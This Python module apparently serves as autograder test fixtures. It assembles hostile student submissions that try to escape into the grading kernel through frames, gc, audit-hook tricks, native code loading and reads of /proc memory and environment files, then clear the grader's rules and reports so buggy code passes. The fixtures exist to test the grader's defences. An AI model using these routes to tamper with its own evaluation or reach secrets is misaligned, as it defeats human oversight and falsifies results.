# ruff: noqa: E501 - the sources are submissions, written as a hostile student would
"""Hostile submissions: ways to reach the grader from inside the learner's interpreter.

The kernel that probes the learner's objects runs in the learner's own process. A submission
that reaches it can make buggy code look correct: switch the guard off, hide its reports,
and make every probe of in-place change see a deep copy (:data:`LIE`). Each *route* here is
one way to try, written as a hostile student would; an attack is a buggy implementation
(a mutant of the corpus that keeps the caller's objects) with one route appended.

Whatever a route reaches, the submission writes :data:`REACHED` to its log (fd 2, which the
batch keeps), so a test can tell "the route failed" from "the route worked but the score
did not show it".
"""

from __future__ import annotations

from pathlib import Path

from tests.implementations.corpus import CORRECT_DIR, mutant_source
from tests.implementations.mutants import MUTANTS

KIT_ROOT = Path(__file__).resolve().parents[2]
CORRECT = (CORRECT_DIR / "c01_namedtuple_events.py").read_text(encoding="utf-8")
#: The same code without its docstring and ``from __future__`` import, to put code before it.
CORRECT_BODY = CORRECT.split('"""', 2)[2].replace("from __future__ import annotations\n", "")
#: What a submission writes to its log when it got hold of the kernel's namespace.
REACHED = "REACHED-THE-KERNEL"

#: The aliasing bugs: each keeps, or hands out, an object a caller can change.
ALIASING = (
    "payload_by_reference",  # the caller's dict is the event's payload
    "payload_shared_mutable",  # event.payload hands out the stored dict
    "old_log_changed",  # append extends the old log's list in place
    "reads_hand_out_the_logs_list",  # a read returns the log's own list
    "events_are_mutable",  # assigning to an event rewrites history
    "replay_cached",  # a replay's messages are shared with the next replay
)
#: The base every route is appended to.
BASE = "payload_by_reference"


def mutant(name: str) -> str:
    """The source of the corpus's mutant ``name``."""
    return mutant_source(next(m for m in MUTANTS if m.name == name))


STUBS = """
def create_event_log():
    raise NotImplementedError
def append_event(log, session_id, event_type, payload):
    raise NotImplementedError
def get_events_for_session(log, session_id, after_event_id=0):
    raise NotImplementedError
def list_sessions(log):
    raise NotImplementedError
def replay_session(log, session_id):
    raise NotImplementedError
"""

#: What a route does with the kernel's namespace once it has it. Defined after the base, so
#: it wraps the base's functions; ``_reach()`` (the route) is tried at import and again on
#: every call, for the routes that need the kernel on the stack.
LIE = r'''

import os as _os

_DONE = []


def _say(text):
    try:
        _os.write(2, (str(text) + "\n").encode("utf-8", "replace"))
    except Exception:
        pass


def _lie(kernel):
    """Switch the guard off, hide what it saw, and make every probe of in-place change
    find nothing to change."""
    if _DONE or not isinstance(kernel, dict) or "FUNCTIONS" not in kernel:
        return
    _DONE.append(True)
    _say("@REACHED@")
    try:
        kernel["RULES"].clear()
        kernel["REPORTS"].clear()
        kernel["changes_of"] = lambda get_root, modes: iter(())
    except Exception as error:
        _say("lie failed: %r" % (error,))


#: Exceptions a route wants raised to the kernel (whose handler then runs their methods).
_ESCAPES = []
_TRIES = [0]


def _try_route():
    if _DONE or _TRIES[0] >= 30:
        return
    _TRIES[0] += 1
    try:
        _lie(_reach())
    except BaseException as error:
        _say("route failed: %s: %s" % (type(error).__name__, str(error)[:200]))


_try_route()

_originals = {name: globals()[name] for name in
              ("create_event_log", "append_event", "get_events_for_session", "list_sessions", "replay_session")}


def _calling(name):
    def call(*args, **kwargs):
        _try_route()
        if _ESCAPES:
            error = _ESCAPES.pop()
            raise error  # and this frame keeps it: a cycle through the kernel's frames
        return _originals[name](*args, **kwargs)
    return call


for _name in _originals:
    globals()[_name] = _calling(_name)
'''.replace("@REACHED@", REACHED)

#: route name -> source defining ``_reach()``, which returns the kernel's namespace or None.
ROUTES: dict[str, str] = {
    # By name: the modules this process has, the grader's own package from the kit's path,
    # the kernel's source read and run again.
    "by_name": r"""
def _reach():
    import sys
    for module in list(sys.modules.values()):
        space = getattr(module, "__dict__", None)
        if isinstance(space, dict) and "REPORTS" in space and "FUNCTIONS" in space:
            return space
    for path in ("@KIT@", "/autograder/source/kit"):
        sys.path.insert(0, path)
    try:
        import grader.kernel.plans  # noqa: F401 - the kit's own copy, if it is readable
    except Exception as error:
        _say("import grader: %r" % (error,))
    space = {}
    for name in ("capture", "isolated", "wire", "observe", "mutate", "calls", "plans"):
        with open("@KIT@/grader/kernel/%s.py" % name) as source:
            exec(compile(source.read(), "fresh_kernel_%s.py" % name, "exec"), space)
    return None  # a fresh copy is not the kernel that answers; reading it is the offence
""",
    # Every class is listed by object.__subclasses__(); a kernel class's method leads to
    # the kernel's globals.
    "by_subclasses": r"""
def _reach():
    seen, pending = set(), [object]
    while pending:
        cls = pending.pop()
        for sub in type.__subclasses__(cls) if isinstance(cls, type) else ():
            if id(sub) in seen:
                continue
            seen.add(id(sub))
            pending.append(sub)
            for value in list(vars(sub).values()):
                space = getattr(value, "__globals__", None)
                if isinstance(space, dict) and "REPORTS" in space:
                    return space
    return None
""",
    # gc: every object, the referrers of a payload the kernel made, the referents of a value
    # it passed, a collection callback.
    "by_gc_objects": r"""
def _reach():
    import gc
    gc.callbacks.append(lambda phase, info: None)
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "REPORTS" in thing and "FUNCTIONS" in thing:
            return thing
    return None
""",
    # gc.garbage: with DEBUG_SAVEALL, a cycle through a traceback keeps the kernel's frames.
    "by_gc_garbage": r"""
def _reach():
    import gc
    gc.set_debug(gc.DEBUG_SAVEALL)
    _ESCAPES.append(ValueError("kept by the frame that raised it"))
    gc.collect()
    for thing in gc.garbage:
        space = getattr(thing, "f_globals", None)
        if isinstance(space, dict) and "REPORTS" in space:
            return space
    return None
""",
    # Frames: sys._getframe, inspect, traceback's stack walk, a traceback's frame, a
    # generator's frame, sys.exc_info() in __del__.
    "by_frames": r"""
def _walk(frame):
    while frame is not None:
        if "REPORTS" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    return None


def _reach():
    import inspect, sys, traceback
    attempts = [
        lambda: _walk(sys._getframe(1)),
        lambda: _walk(inspect.currentframe()),
        lambda: next(_walk(frame) for frame, _ in traceback.walk_stack(None)),
    ]

    def from_traceback():
        try:
            raise KeyError("x")
        except KeyError as error:
            return _walk(error.__traceback__.tb_frame.f_back)

    def from_generator():
        def generator():
            yield 1
        return _walk(generator().gi_frame.f_back)

    class Spy:
        found = []
        def __del__(self):
            info = sys.exc_info()
            if info[2] is not None:
                Spy.found.append(_walk(info[2].tb_frame))

    def from_del():
        try:
            raise KeyError("y")
        except KeyError:
            Spy()
        return Spy.found[0] if Spy.found else None

    for attempt in (*attempts, from_traceback, from_generator, from_del):
        try:
            found = attempt()
        except Exception as error:
            _say("frames: %r" % (error,))
            continue
        if found:
            return found
    return None
""",
    # The traceback module walks a traceback's frames for its own formatting and hands each
    # frame's globals to linecache.lazycache, which learner code can replace.
    "by_traceback_module": r"""
_CAUGHT = []


class _Telling(Exception):
    def __str__(self):  # called by the kernel while it describes this exception
        import linecache, traceback
        real = linecache.lazycache

        def spy(filename, module_globals):
            if "REPORTS" in module_globals:
                _CAUGHT.append(module_globals)
            return real(filename, module_globals)

        linecache.lazycache = spy
        try:
            traceback.format_tb(self.__traceback__)
            traceback.StackSummary.extract(traceback.walk_tb(self.__traceback__), capture_locals=True)
        except Exception as error:
            _say("traceback: %r" % (error,))
        finally:
            linecache.lazycache = real
        return "telling"


_RAISED = []


def _reach():
    if _CAUGHT:
        return _CAUGHT[0]
    if not _RAISED:
        _RAISED.append(True)
        _ESCAPES.append(_Telling())  # raised to the kernel, whose describe() reads its message
    return None
""",
    # A code object that claims a standard library file name passes for the traceback module.
    "by_stdlib_filename": r"""
def _reach():
    import os
    source = "def walk_tb(tb):\n    return tb.tb_frame\ndef consumer(tb):\n    return walk_tb(tb)\n"
    space = {}
    exec(compile(source, os.path.dirname(os.__file__) + "/traceback.py", "exec"), space)
    try:
        raise KeyError("z")
    except KeyError as error:
        frame = space["consumer"](error.__traceback__)
    while frame is not None:
        if "REPORTS" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    return None
""",
    # A str subclass as a code object's file name: its methods run wherever the guard reads
    # the name of the file that asked, inside the audit hook.
    "by_str_subclass_filename": r"""
_FOUND = []


class _Name(str):
    def _look(self):
        import sys
        try:
            frame = sys._getframe(1)
            while frame is not None:
                if "REPORTS" in frame.f_globals:
                    _FOUND.append(frame.f_globals)
                    break
                frame = frame.f_back
        except Exception:
            pass

    def __format__(self, spec):
        self._look()
        return str.__format__(self, spec)

    def __getitem__(self, index):
        self._look()
        return str.__getitem__(self, index)


def _reach():
    import _imp, os
    probe = "import sys\ntry:\n    sys._getframe()\nexcept ValueError:\n    pass\n"
    for name in (_Name("<probe>"), _Name(os.getcwd() + "/probe.py")):
        try:
            exec(compile(probe, name, "exec"), {})
        except Exception as error:
            _say("compile: %r" % (error,))
        code = compile(probe, "<plain>", "exec")
        _imp._fix_co_filename(code, name)  # no audit event: the name is set afterwards
        exec(code, {})
    return _FOUND[0] if _FOUND else None
""",
    # The guard's own classes: change how a refusal is built, and read the frames from
    # inside the audit hook while it lets everything through.
    "by_guard_classes": r"""
_FOUND = []


def _reach():
    import sys
    pending, classes = [BaseException, object], []
    while pending:
        cls = pending.pop()
        for sub in type.__subclasses__(cls):
            pending.append(sub)
            if sub.__module__ == "grading_kernel":
                classes.append(sub)

    def spying(*args, **kwargs):
        try:
            frame = sys._getframe(1)
            while frame is not None:
                if "REPORTS" in frame.f_globals:
                    _FOUND.append(frame.f_globals)
                    break
                frame = frame.f_back
        except Exception:
            pass
        raise ValueError("spied")

    for cls in classes:
        try:
            cls.__init__ = spying
        except Exception as error:
            _say("patch %s: %r" % (cls.__name__, error))
    try:
        sys._getframe()
    except Exception:
        pass
    return _FOUND[0] if _FOUND else None
""",
    # A signal handler gets the frame that was running: build _signal without the import
    # system (which the guard watches), and let a timer interrupt the kernel.
    "by_signal_handler": r"""
_FOUND = []


def _handler(signum, frame):
    while frame is not None:
        if "REPORTS" in frame.f_globals:
            _FOUND.append(frame.f_globals)
            return
        frame = frame.f_back


def _reach():
    if _FOUND:
        return _FOUND[0]
    import importlib._bootstrap as bootstrap
    from importlib.machinery import BuiltinImporter, ModuleSpec
    import importlib.util
    for make in (
        lambda: bootstrap._imp.create_builtin(ModuleSpec("_signal", BuiltinImporter)),
        lambda: importlib.util.module_from_spec(BuiltinImporter.find_spec("_signal")),
        lambda: __import__("signal"),
    ):
        try:
            signal = make()
            signal.signal(signal.SIGALRM, _handler)
            signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
            return None  # the handler finds the kernel on a later call
        except Exception as error:
            _say("signal: %r" % (error,))
    return None
""",
    # sys.audit raises any event with any arguments: a str subclass with its own __eq__
    # runs inside the hook while it lets everything through.
    "by_sys_audit": r"""
_FOUND = []


class _Key(str):
    def __hash__(self):
        return str.__hash__(self)

    def __eq__(self, other):
        import sys
        try:
            frame = sys._getframe(1)
            while frame is not None:
                if "REPORTS" in frame.f_globals:
                    _FOUND.append(frame.f_globals)
                    break
                frame = frame.f_back
        except Exception:
            pass
        return str.__eq__(self, other)


def _reach():
    import sys
    for event, args in (
        ("object.__getattr__", (None, _Key("tb_frame"))),
        ("import", (_Key("gc"), None, None, None, None)),
        ("open", (_Key("/proc/self/mem"), "r", 0)),
        ("compile", (b"", _Key("<x>"))),
    ):
        try:
            sys.audit(event, *args)
        except Exception:
            pass
    return _FOUND[0] if _FOUND else None
""",
    # A garbage collection runs __del__ wherever it happens: inside the audit hook too, where
    # (while it reads frames itself) every event is let through.
    "by_finalizer_in_the_hook": r"""
_FOUND = []


class _Cycle:
    def __init__(self):
        self.me = self

    def __del__(self):
        import sys
        try:
            frame = sys._getframe(1)
        except Exception:
            return
        while frame is not None:
            if "REPORTS" in frame.f_globals:
                _FOUND.append(frame.f_globals)
                return
            frame = frame.f_back


def _reach():
    import os
    for _ in range(5000):
        _Cycle()
        try:
            with open(os.devnull):  # an event the guard lets through, after a look
                pass
        except Exception:
            pass
        if _FOUND:
            return _FOUND[0]
    return None
""",
    # Bytecode made by hand can read and write the process's memory: unmarshal it, or build
    # a code object, however the standard library allows.
    "by_bytecode": r"""
def _reach():
    import marshal, os, types, _imp
    data = marshal.dumps(compile("x = 1", "<made>", "exec"))
    stdlib = os.path.dirname(os.__file__)

    def _compile_bytecode(data, bytecode_path=stdlib + "/made.pyc"):
        return marshal.loads(data)

    from importlib._bootstrap_external import _compile_bytecode as real
    attempts = (
        lambda: marshal.loads(data),
        lambda: _compile_bytecode(data),
        lambda: real(memoryview(data), name="made", bytecode_path=stdlib + "/os.py"),
        lambda: _imp.get_frozen_object("zipimport", data),
        lambda: compile("1", "<c>", "eval").replace(co_consts=(2,)),
        lambda: types.CodeType(*([0] * 16)),
    )
    for attempt in attempts:
        try:
            attempt()
        except Exception as error:
            _say("bytecode: %r" % (error,))
    return None  # what a made code object does next is up to the student's skill
""",
    # Native code: ctypes, _ctypes under another name, a copied extension, SQLite extensions.
    "by_native_code": r"""
def _reach():
    import glob, os, shutil
    import importlib.machinery, importlib.util
    dynload = os.path.dirname(os.__file__) + "/lib-dynload"
    attempts = [lambda: __import__("ctypes"), lambda: __import__("_ctypes")]
    for path in glob.glob(dynload + "/_ctypes*.so") + glob.glob(dynload + "/_json*.so"):
        def load(path=path):
            name = "x." + os.path.basename(path).split(".")[0]
            copy = os.getcwd() + "/" + os.path.basename(path)
            try:
                shutil.copyfile(path, copy)
            except Exception:
                copy = path
            for where in (path, copy):
                loader = importlib.machinery.ExtensionFileLoader(name, where)
                loader.create_module(importlib.util.spec_from_file_location(name, where, loader=loader))
        attempts.append(load)

    def sqlite_extension():
        import sqlite3
        connection = sqlite3.connect(":memory:")
        connection.enable_load_extension(True)
        connection.load_extension(os.getcwd() + "/evil.so")

    attempts.append(sqlite_extension)
    for attempt in attempts:
        try:
            attempt()
        except Exception as error:
            _say("native: %r" % (error,))
    return None
""",
    # The process's own memory, environment and descriptors, by /proc and /dev/fd.
    "by_proc": r"""
def _reach():
    import os
    for path in ("/proc/self/mem", "/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps",
                 "/dev/fd/0", "/dev/stdin", "/proc/1/environ"):
        try:
            with open(path, "rb") as stream:
                stream.read(100)
        except Exception as error:
            _say("proc: %r" % (error,))
    try:
        os.listdir("/proc/self/fd")
    except Exception as error:
        _say("proc: %r" % (error,))
    return None
""",
    # A thread runs beside the kernel and reads its frames.
    "by_threads": r"""
_FOUND = []


def _watch():
    import sys
    for _ in range(100000):
        try:
            for frame in sys._current_frames().values():
                while frame is not None:
                    if "REPORTS" in frame.f_globals:
                        _FOUND.append(frame.f_globals)
                        return
                    frame = frame.f_back
        except Exception:
            return


def _reach():
    if _FOUND:
        return _FOUND[0]
    import threading, _thread
    for start in (lambda: threading.Thread(target=_watch, daemon=True).start(),
                  lambda: _thread.start_new_thread(_watch, ())):
        try:
            start()
        except Exception as error:
            _say("thread: %r" % (error,))
    return None
""",
    # Replace a function the guard itself calls while it decides (it reads a standard library
    # file to check a compile): run inside the hook, where every event is let through.
    "by_a_function_the_guard_calls": r"""
def _reach():
    import os, posix, sys
    found, real = [], posix.open

    def spy(*args, **kwargs):
        try:
            frame = sys._getframe(1)
            while frame is not None:
                if "REPORTS" in frame.f_globals:
                    found.append(frame.f_globals)
                    break
                frame = frame.f_back
        except Exception:
            pass
        return real(*args, **kwargs)

    posix.open = spy
    try:
        with open(os.__file__, "rb") as source:
            compile(source.read(), os.__file__, "exec")
    finally:
        posix.open = real
    return found[0] if found else None
""",
    # Patch what the kernel might use: builtins, json, copy, types, the ABCs.
    "by_patching_the_stdlib": r"""
_PATCHED = []


def _reach():
    if _PATCHED:
        return None
    _PATCHED.append(True)
    import builtins, collections.abc, copy, json, types
    real_isinstance, real_len = builtins.isinstance, builtins.len
    builtins.hasattr = lambda obj, name: True
    builtins.repr = lambda obj: "{}"
    json.dumps = lambda *args, **kwargs: "{}"
    json.loads = lambda *args, **kwargs: {}
    types.MappingProxyType = dict
    collections.abc.Mapping.register(list)
    collections.abc.Sequence.register(dict)

    class Anything(collections.abc.Mapping):
        @classmethod
        def __subclasshook__(cls, other):
            return True

    collections.abc.Mapping.__subclasshook__ = classmethod(lambda cls, other: True)
    return None
""",
}

#: Bases the strongest attack (every route in turn) is appended to: the aliasing mutants and
#: a file with every aliasing bug at once.
EVERY_ROUTE = r"""
def _reach():
    for route in _ROUTES:
        try:
            found = route()
        except BaseException as error:
            _say("route: %r" % (error,))
            continue
        if found:
            return found
    return None
"""

ALIASING_EVERYWHERE = r'''"""Wrong on purpose: keeps the caller's payload, hands out its own lists, and changes the
log in place."""

from collections.abc import Mapping

FIELDS = {
    "user_message": [("content", False)],
    "assistant_message": [("content", False)],
    "tool_call": [("call_id", True), ("name", True), ("arguments", False)],
    "tool_result": [("call_id", True), ("content", False)],
}


class Event:
    def __init__(self, event_id, session_id, type, payload):
        self.event_id, self.session_id, self.type = event_id, session_id, type
        self.payload = payload  # the caller's own mapping


class Log:
    def __init__(self, events=(), sessions=()):
        self.events, self.sessions = list(events), list(sessions)


def create_event_log():
    return Log()


def _check(log, session_id, event_type, payload):
    if not isinstance(event_type, str) or event_type not in FIELDS:
        raise ValueError("unknown event type")
    if not isinstance(session_id, str) or session_id == "":
        raise ValueError("bad session id")
    if not isinstance(payload, Mapping):
        raise ValueError("payload must be a mapping")
    for key, non_empty in FIELDS[event_type]:
        if not isinstance(payload.get(key), str) or (non_empty and payload[key] == ""):
            raise ValueError("bad " + key)
    if event_type in ("tool_call", "tool_result"):
        used, open_calls = set(), set()
        for event in log.events:
            if event.session_id == session_id and event.type == "tool_call":
                used.add(event.payload.get("call_id"))
                open_calls.add(event.payload.get("call_id"))
            elif event.session_id == session_id and event.type == "tool_result":
                open_calls.discard(event.payload.get("call_id"))
        if event_type == "tool_call" and payload["call_id"] in used:
            raise ValueError("call id used")
        if event_type == "tool_result" and payload["call_id"] not in open_calls:
            raise ValueError("no such open call")


def append_event(log, session_id, event_type, payload):
    _check(log, session_id, event_type, payload)
    event = Event(len(log.events) + 1, session_id, event_type, payload)
    log.events.append(event)  # in place: the old log is the new log
    if session_id not in log.sessions:
        log.sessions.append(session_id)
    return log, event


def get_events_for_session(log, session_id, after_event_id=0):
    return [e for e in log.events if e.session_id == session_id and e.event_id > after_event_id]


def list_sessions(log):
    return log.sessions  # the log's own list


def replay_session(log, session_id):
    messages, previous = [], None
    for event in get_events_for_session(log, session_id):
        p = event.payload
        if event.type == "tool_call":
            if previous != "tool_call":
                messages.append({"role": "assistant", "content": None, "tool_calls": []})
            function = {"name": p["name"], "arguments": p["arguments"]}
            messages[-1]["tool_calls"].append({"id": p["call_id"], "type": "function", "function": function})
        elif event.type == "tool_result":
            messages.append({"role": "tool", "tool_call_id": p["call_id"], "content": p["content"]})
        else:
            role = "user" if event.type == "user_message" else "assistant"
            messages.append({"role": role, "content": p["content"]})
        previous = event.type
    return messages
'''


def _renamed(route: str, name: str) -> str:
    return route.replace("def _reach():", f"def _reach_{name}():")


def with_route(base: str, route: str) -> str:
    """``base`` with one route and the lie appended."""
    return base + "\n\n" + route.replace("@KIT@", str(KIT_ROOT)) + LIE


def with_every_route(base: str) -> str:
    """``base`` with every route, tried in turn, and the lie appended."""
    routes = "\n".join(
        _renamed(source, name).replace("@KIT@", str(KIT_ROOT)) for name, source in ROUTES.items()
    )
    listed = ", ".join(f"_reach_{name}" for name in ROUTES)
    return base + "\n\n" + routes + f"\n_ROUTES = ({listed})\n" + EVERY_ROUTE + LIE


def route_attacks() -> dict[str, str]:
    """``file name -> source``: the base with each route, and each aliasing base with every
    route; beside them (in :func:`route_controls`) the same bases alone."""
    attacks = {f"{name}.py": with_route(mutant(BASE), source) for name, source in ROUTES.items()}
    for name in ALIASING:
        attacks[f"every_route_on_{name}.py"] = with_every_route(mutant(name))
    attacks["every_route_on_aliasing_everywhere.py"] = with_every_route(ALIASING_EVERYWHERE)
    return attacks


def route_controls() -> dict[str, str]:
    """The same buggy code with no route: what every attack must not beat."""
    controls = {f"control_{name}.py": mutant(name) for name in ALIASING}
    controls["control_aliasing_everywhere.py"] = ALIASING_EVERYWHERE
    return controls


def control_of(attack: str) -> str:
    """The id of the control an attack (by id) is compared with."""
    if attack.startswith("every_route_on_"):
        return "control_" + attack.removeprefix("every_route_on_")
    return f"control_{BASE}"
